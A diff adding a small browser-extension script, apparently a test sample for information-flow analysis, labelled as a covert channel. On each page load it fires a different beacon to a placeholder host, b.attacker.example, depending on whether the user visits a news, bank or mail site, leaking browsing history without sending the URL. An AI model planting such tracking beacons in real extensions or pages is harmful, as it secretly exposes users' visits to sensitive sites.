@@ -1,0 +1,30 @@
+// A covert channel: never sends the URL itself, but reveals which of a
+// list of tracked sites the user visits by choosing WHICH beacon to
+// fire -- a purely implicit, amplified flow (runs on every page load).
+
+var Beacon = {
+  endpoints: {
+    news: "http://b.attacker.example/n.gif",
+    bank: "http://b.attacker.example/b.gif",
+    mail: "http://b.attacker.example/m.gif"
+  }
+};
+
+function bc_fire(url) {
+  var req = new XMLHttpRequest();
+  req.open("GET", url, true);
+  req.send(null);
+}
+
+function bc_onLoad(event) {
+  var here = content.location.href;
+  if (here == "http://news.example.com/") {
+    bc_fire(Beacon.endpoints.news);
+  } else if (here == "http://bank.example.com/") {
+    bc_fire(Beacon.endpoints.bank);
+  } else if (here == "http://mail.example.com/") {
+    bc_fire(Beacon.endpoints.mail);
+  }
+}
+
+gBrowser.addEventListener("load", bc_onLoad, true);
